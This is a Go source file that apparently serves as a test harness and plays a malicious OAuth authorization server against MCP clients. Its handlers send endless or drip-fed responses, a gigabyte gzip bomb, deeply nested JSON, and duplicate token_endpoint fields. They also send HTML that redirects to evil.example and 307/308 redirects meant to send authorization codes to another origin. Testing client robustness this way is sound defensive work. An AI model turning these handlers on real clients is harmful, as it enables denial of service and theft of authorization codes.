package attack

// Attacks by responses: endless, very large, deeply nested, ambiguous, slow, or in a format that was not requested.

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"strings"

	"mcpauth/internal/demo"
)

func answers() []Attack {
	at := func(name, what, path string, do http.HandlerFunc) Attack {
		return Attack{Name: "answer/" + name, What: what, At: path, Do: do}
	}
	later := func(a Attack) Attack { a.Later = true; return a }
	const good = `"issuer":"https://as.attack.example","authorization_endpoint":"https://as.attack.example/authorize",` +
		`"registration_endpoint":"https://as.attack.example/register","code_challenge_methods_supported":["S256"]`
	return []Attack{
		at("endless-metadata", "the authorization server metadata never ends", serverPath, endless(`{"issuer":"`)),
		at("endless-resource", "the resource metadata never ends", resourcePath, endless(`{"resource":"`)),
		at("endless-registration", "the registration response never ends", "POST "+registerPath, endless(`{"client_id":"`)),
		at("endless-token", "the token response never ends", "POST "+tokenPath, endless(`{"access_token":"`)),
		later(at("endless-call", "the result of a tool never ends", "POST "+mcpPath, endless(`{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"`))),
		later(at("endless-stream", "an event stream sends comments without end", "POST "+mcpPath, stream(": nothing yet\n"))),
		later(at("compressed-stream", "an event stream contains 100 MB of comments, compressed with gzip", "POST "+mcpPath, compressedStream)),
		at("endless-header", "a response header never ends", serverPath, endlessHeader),
		at("informational", "the server sends 1xx responses without end", serverPath, informational),
		at("drip", "the server sends the first byte of the metadata and then nothing", serverPath, drip),
		later(at("drip-token", "the token endpoint sends the first byte of its response and then nothing", "POST "+tokenPath, drip)),
		at("gzip-bomb", "the metadata is 1 GB of zeros, compressed with gzip", serverPath, bomb),
		at("deep", "the metadata has a hundred thousand nested arrays", serverPath, body(`{"x":`+strings.Repeat("[", 100_000))),
		at("duplicate-member", "the metadata contains token_endpoint twice, with different values", serverPath,
			body(`{`+good+`,"token_endpoint":"https://as.attack.example/token","token_endpoint":"https://evil.example/token"}`)),
		at("folded-member", "the metadata contains token_endpoint and Token_Endpoint, with different values", serverPath,
			body(`{`+good+`,"token_endpoint":"https://as.attack.example/token","Token_Endpoint":"https://evil.example/token"}`)),
		at("wrong-type", "the token endpoint is an array instead of a string", serverPath, body(`{`+good+`,"token_endpoint":["https://evil.example/token"]}`)),
		at("nul", "the metadata contains NUL bytes", serverPath, body("{\x00"+good+`,"token_endpoint":"https://as.attack.example/token"}`)),
		at("mark", "the metadata begins with a byte order mark", serverPath, body("\ufeff{"+good+`,"token_endpoint":"https://as.attack.example/token"}`)),
		at("page", "the metadata is an HTML page", serverPath, page),
		at("two-values", "the metadata is followed by a second JSON value", serverPath, body(`{`+good+`,"token_endpoint":"https://as.attack.example/token"}{}`)),
		at("redirect-loop", "the metadata redirects to itself", serverPath, func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, serverPath, http.StatusFound)
		}),
		at("token-307", "the token endpoint redirects to another origin with 307, to get the code sent there", "POST "+tokenPath, away(http.StatusTemporaryRedirect)),
		at("token-308", "the token endpoint redirects to another origin with 308, to get the code sent there", "POST "+tokenPath, away(http.StatusPermanentRedirect)),
		at("registration-307", "the registration endpoint redirects to another origin", "POST "+registerPath, away(http.StatusTemporaryRedirect)),
		at("truncated-token", "the token response is cut off", "POST "+tokenPath, cut(`{"access_token":"abcdef`)),
		{Name: "answer/many-scopes", What: "the server grants a hundred thousand scopes", Edit: func(_ *http.Request, s string) string {
			return strings.Replace(s, `"scope":"`, `"scope":"`+many(100_000)+" ", 1)
		}},
		{Name: "answer/many-scopes-known", What: "the resource metadata lists a hundred thousand scopes", Set: demo.Settings{Challenge: "noscope"}, Edit: func(_ *http.Request, s string) string {
			return strings.Replace(s, `"scopes_supported":["`, `"scopes_supported":["`+strings.ReplaceAll(many(100_000), " ", `","`)+`","`, 1)
		}},
		at("token-page", "the token response is an HTML page", "POST "+tokenPath, page),
	}
}

// many returns a list of n short words.
func many(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%x ", i)
	}
	return strings.TrimSpace(b.String())
}

// body responds with a text as application/json.
func body(s string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, s)
	}
}

func page(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	io.WriteString(w, "<!doctype html><script>location='https://evil.example/'</script><h1>Please sign in</h1>")
}

// away redirects to another origin.
func away(status int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", Evil+r.URL.Path)
		w.WriteHeader(status)
	}
}

// cut sends less than its Content-Length.
func cut(s string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Content-Length", fmt.Sprint(len(s)+100))
		io.WriteString(w, s)
		http.NewResponseController(w).Flush()
		panic(http.ErrAbortHandler)
	}
}

// endless sends a JSON response that never ends.
func endless(begin string) http.HandlerFunc {
	return flood("application/json", begin, strings.Repeat("a", 64<<10))
}

func stream(line string) http.HandlerFunc {
	return flood("text/event-stream", "", strings.Repeat(line, 1000))
}

func flood(kind, begin, rest string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", kind)
		_, err := io.WriteString(w, begin)
		for err == nil && r.Context().Err() == nil {
			_, err = io.WriteString(w, rest)
		}
	}
}

// drip sends the beginning of a response and then nothing.
func drip(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	io.WriteString(w, "{")
	http.NewResponseController(w).Flush()
	<-r.Context().Done()
	panic(http.ErrAbortHandler) // close the connection without the final chunk, so that the response stays incomplete
}

// bomb sends a gigabyte of zeros, compressed.
func bomb(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("Content-Encoding", "gzip")
	z := gzip.NewWriter(w)
	zeros := make([]byte, 1<<20)
	for range 1024 {
		if _, err := z.Write(zeros); err != nil {
			return
		}
	}
	z.Close()
}

// compressedStream sends an event stream of comments, compressed, and keeps the stream open.
func compressedStream(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Content-Encoding", "gzip")
	z := gzip.NewWriter(w)
	comments := bytes.Repeat([]byte(":\n"), 1<<19)
	for range 100 {
		if _, err := z.Write(comments); err != nil {
			return
		}
	}
	z.Flush()
	http.NewResponseController(w).Flush()
	<-r.Context().Done()
}

// endlessHeader sends header lines until the client closes the connection.
func endlessHeader(w http.ResponseWriter, _ *http.Request) {
	raw(w, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n", "X-More: "+strings.Repeat("a", 4<<10)+"\r\n")
}

// informational sends 1xx responses until the client closes the connection.
func informational(w http.ResponseWriter, _ *http.Request) {
	raw(w, "", strings.Repeat("HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload\r\n\r\n", 100))
}

func raw(w http.ResponseWriter, begin, rest string) {
	conn, _, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	_, err = io.WriteString(conn, begin)
	for err == nil {
		_, err = io.WriteString(conn, rest)
	}
}
